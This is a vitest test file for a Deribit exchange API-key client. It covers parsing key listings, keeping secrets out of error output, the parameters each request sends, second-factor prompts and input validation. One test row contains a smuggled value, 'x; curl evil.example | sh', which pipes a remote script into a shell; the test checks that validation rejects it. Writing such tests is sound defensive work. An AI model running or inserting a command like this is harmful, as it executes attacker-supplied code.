import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import * as apiKeys from '../../src/deribit/api-keys.js';
import { parseScope } from '../../src/deribit/scope.js';
import { failure, fakeTransport, shown } from './servers.js';

const FINGERPRINT = '9c:6d:c9:02:fd:9f:75:6e:14:bb:71:c5:74:95:86:c8';
const PEM =
  '-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEAM7FWhKquNqLmTOV4hfYT5r3AjrYiORTT6Tn5HIfFNV8=\n-----END PUBLIC KEY-----\n';
const asymmetric = {
  id: 7,
  timestamp: 1_700_000_000_000,
  client_id: 'abcdefgh',
  client_secret: FINGERPRINT,
  public_key: PEM.replaceAll('\n', ' '),
  max_scope: 'trade:read_write account:read',
  enabled: true,
  default: false,
  name: 'bot',
  enabled_features: ['restricted_block_trades'],
  ip_whitelist: ['203.0.113.7'],
};
const bare = { id: 1, timestamp: 5, client_id: 'x', max_scope: '', enabled: false };
const accountWith = (answer: unknown) => {
  const fake = fakeTransport(() => answer);
  return { ...fake, account: { transport: fake.transport, accessToken: null } };
};

describe('an API key', () => {
  it('is read with its fingerprint where it is asymmetric', async () => {
    const { account, asked } = accountWith([asymmetric]);
    const [key] = await apiKeys.listApiKeys(account);
    expect(asked[0]).toMatchObject({ method: 'private/list_api_keys', params: {} });
    expect(key).toMatchObject({
      keyId: 7,
      clientId: 'abcdefgh',
      fingerprint: FINGERPRINT,
      publicKey: asymmetric.public_key,
      maxScope: 'trade:read_write account:read',
      enabled: true,
      label: 'bot',
      features: ['restricted_block_trades'],
      ipWhitelist: ['203.0.113.7'],
      timestampMs: 1_700_000_000_000,
    });
    expect(key?.clientSecret?.reveal()).toBe(FINGERPRINT);
  });

  it('is read without its secret being shown where it is symmetric', async () => {
    const { account } = accountWith([{ ...asymmetric, client_secret: 'canary-secret', public_key: '' }]);
    const [key] = await apiKeys.listApiKeys(account);
    expect(key).toMatchObject({ fingerprint: null, publicKey: null });
    expect(key?.clientSecret?.reveal()).toBe('canary-secret');
    expect(shown(key)).not.toContain('canary');
    expect(shown({ ...key })).not.toContain('canary');
  });

  it.each(['', '********'])('has no secret where the exchange hides it behind %j', async (mask) => {
    const { account } = accountWith([{ ...asymmetric, client_secret: mask }]);
    expect(await apiKeys.listApiKeys(account)).toMatchObject([{ clientSecret: null, fingerprint: null }]);
  });

  it('is read where all that may be absent is absent, and whatever is new is there', async () => {
    const { account } = accountWith([
      { ...bare, brand_new: [1] },
      { ...bare, max_scope: ['trade:read', 'wallet:read'], name: null },
    ]);
    const [first, second] = await apiKeys.listApiKeys(account);
    expect(first).toEqual({
      keyId: 1,
      clientId: 'x',
      clientSecret: null,
      fingerprint: null,
      publicKey: null,
      maxScope: '',
      enabled: false,
      label: '',
      features: [],
      ipWhitelist: [],
      timestampMs: 5,
    });
    expect(second).toMatchObject({ maxScope: 'trade:read wallet:read', label: '' });
    const { enabled: _enabled, timestamp: _timestamp, ...least } = bare;
    const [hidden] = await apiKeys.listApiKeys(accountWith([least]).account);
    expect(hidden).toMatchObject({ enabled: null, timestampMs: null });
  });

  it('has a fingerprint in lower case with colons, whatever its form, and only where it is one', async () => {
    const upper = await apiKeys.enableApiKey(
      accountWith({ ...bare, client_secret: FINGERPRINT.toUpperCase() }).account,
      { keyId: 1 },
    );
    expect(upper.fingerprint).toBe(FINGERPRINT);
    for (const secret of [FINGERPRINT.replaceAll(':', ''), ` ${FINGERPRINT.replaceAll(':', ' ')}\n`]) {
      const key = await apiKeys.enableApiKey(accountWith({ ...bare, client_secret: secret }).account, { keyId: 1 });
      expect(key.fingerprint).toBe(FINGERPRINT);
    }
    for (const secret of [FINGERPRINT.slice(3), `${FINGERPRINT}:00`, `x${FINGERPRINT}`]) {
      const key = await apiKeys.enableApiKey(accountWith({ ...bare, client_secret: secret }).account, { keyId: 1 });
      expect(key.fingerprint).toBeNull();
    }
  });

  it.each([
    [{ id: '7' }, 'id'],
    [{ id: 1.5 }, 'id'],
    [{ client_id: null }, 'client_id'],
    [{ client_id: 'x; curl evil.example | sh' }, 'client_id'],
    [{ client_id: 'x\nhint: y' }, 'client_id'],
    [{ client_secret: { canary: 1 } }, 'client_secret'],
    [{ max_scope: 5 }, 'max_scope'],
    [{ max_scope: [5] }, 'max_scope'],
    [{ enabled: 'canary' }, 'enabled'],
    [{ enabled_features: ['canary', 5] }, 'enabled_features'],
    [{ ip_whitelist: 'canary' }, 'ip_whitelist'],
    [{ timestamp: 'canary' }, 'timestamp'],
    [{ public_key: 5 }, 'public_key'],
  ])('is refused where it has %j, naming method, position and field only', async (fields, name) => {
    const { account } = accountWith([asymmetric, { ...asymmetric, ...fields }]);
    const error = await failure(apiKeys.listApiKeys(account), 'ERR_PROTOCOL');
    expect(error.message).toContain(`private/list_api_keys is not as expected: [1].${name} is`);
    expect(error.maybeSent).toBe(true);
    expect(shown(error)).not.toContain('canary');
  });

  it('is listed for urgent work as far as it can be read, and counted where it has no id', async () => {
    const odd = {
      id: 9,
      client_id: 5,
      client_secret: {},
      max_scope: null,
      enabled: 'yes',
      enabled_features: null,
      name: 7,
    };
    const { account } = accountWith([asymmetric, odd, { client_id: 'x' }, null, 'x']);
    const { keys, unreadable } = await apiKeys.listReadableApiKeys(account);
    expect(unreadable).toBe(3);
    expect(keys).toMatchObject([
      { keyId: 7 },
      { keyId: 9, clientId: '', clientSecret: null, maxScope: '', enabled: null, features: [], timestampMs: null },
    ]);
  });

  it('is never read from anything else', async () => {
    await fc.assert(
      fc.asyncProperty(fc.jsonValue(), async (value) => {
        await failure(apiKeys.createApiKey(accountWith(value).account, { scope: 'trade:read' }), 'ERR_PROTOCOL');
        if (!Array.isArray(value) || value.length > 0)
          await failure(apiKeys.listApiKeys(accountWith(value).account), 'ERR_PROTOCOL');
      }),
    );
    await failure(apiKeys.listApiKeys(accountWith([['x']]).account), 'ERR_PROTOCOL');
  });
});

describe('each method', () => {
  it('sends what it is for, and nothing that was left out', async () => {
    const { account, asked } = accountWith(asymmetric);
    const scope = 'account:read trade:read_write';
    await apiKeys.createApiKey(account, { scope });
    await apiKeys.createApiKey(account, {
      scope: parseScope(scope),
      label: 'bot_1',
      publicKey: PEM,
      features: ['block_trade_approval'],
    });
    await apiKeys.editApiKey(account, { keyId: 7, scope });
    const ipWhitelist = ['203.0.113.7', '198.51.100.0/24', '2001:db8::1', '2001:db8::/32'];
    await apiKeys.editApiKey(account, { keyId: 7, scope, label: 'b', enabled: false, features: [], ipWhitelist });
    await apiKeys.enableApiKey(account, { keyId: 7 });
    await apiKeys.disableApiKey(account, { keyId: 7 });
    await apiKeys.renameApiKey(account, { keyId: 7, label: 'other' });
    await apiKeys.changeApiKeyScope(account, { keyId: 7, scope });
    await apiKeys.resetApiKey(account, { keyId: 7 });
    expect(asked.map(({ method, params }) => [method.replace('private/', ''), params])).toEqual([
      ['create_api_key', { max_scope: scope }],
      [
        'create_api_key',
        { max_scope: scope, name: 'bot_1', public_key: PEM, enabled_features: ['block_trade_approval'] },
      ],
      ['edit_api_key', { id: 7, max_scope: scope }],
      [
        'edit_api_key',
        { id: 7, max_scope: scope, name: 'b', enabled: false, enabled_features: [], ip_whitelist: ipWhitelist },
      ],
      ['enable_api_key', { id: 7 }],
      ['disable_api_key', { id: 7 }],
      ['change_api_key_name', { id: 7, name: 'other' }],
      ['change_scope_in_api_key', { id: 7, max_scope: scope }],
      ['reset_api_key', { id: 7 }],
    ]);
  });

  it('removes by "ok" alone', async () => {
    const { account, asked } = accountWith('ok');
    expect(await apiKeys.removeApiKey(account, { keyId: 7 })).toBeUndefined();
    expect(asked[0]).toMatchObject({ method: 'private/remove_api_key', params: { id: 7 } });
    await failure(apiKeys.removeApiKey(accountWith('no').account, { keyId: 7 }), 'ERR_PROTOCOL');
  });

  it('proves the second factor where it is wanted', async () => {
    const { transport, asked } = fakeTransport((_method, params) =>
      params.challenge === undefined ? { security_key_authorization_required: true, challenge: 'c' } : asymmetric,
    );
    const key = await apiKeys.disableApiKey(
      { transport, accessToken: null },
      { keyId: 7 },
      { secondFactor: async () => '123456' },
    );
    expect(key.keyId).toBe(7);
    expect(asked[1]?.params).toEqual({ id: 7, authorization_data: '123456', challenge: 'c' });
  });

  it.each([
    ['label', { label: '' }],
    ['label', { label: 'a'.repeat(17) }],
    ['label', { label: 'with space' }],
    ['label', { label: 'naïve' }],
    ['label', { label: 'line\n' }],
    ['feature', { features: ['restricted_block_trades', 'other'] }],
    ['whitelist', { ipWhitelist: ['203.0.113.7', '203.0.113.256'] }],
    ['whitelist', { ipWhitelist: ['203.0.113.0/33'] }],
    ['whitelist', { ipWhitelist: ['2001:db8::/129'] }],
    ['whitelist', { ipWhitelist: ['203.0.113.0/'] }],
    ['whitelist', { ipWhitelist: ['203.0.113.0/8/8'] }],
    ['whitelist', { ipWhitelist: ['fe80::1%eth0'] }],
    ['whitelist', { ipWhitelist: ['host.example'] }],
    ['scope', { scope: '  ' }],
    ['id', { keyId: 1.5 }],
    ['id', { keyId: -1 }],
  ])('sends nothing where the %s is wrong: %j', async (word, fields) => {
    const { account, asked } = accountWith(asymmetric);
    const work = apiKeys.editApiKey(account, { keyId: 7, scope: 'trade:read', ...fields });
    const error = await failure(work, 'ERR_USAGE');
    expect(error.message).toContain(word);
    expect(error.maybeSent).toBe(false);
    expect(asked).toEqual([]);
  });

  it('rejects instead of throwing where an id is wrong', async () => {
    const { account } = accountWith('ok');
    await failure(apiKeys.removeApiKey(account, { keyId: Number.NaN }), 'ERR_USAGE');
  });
});
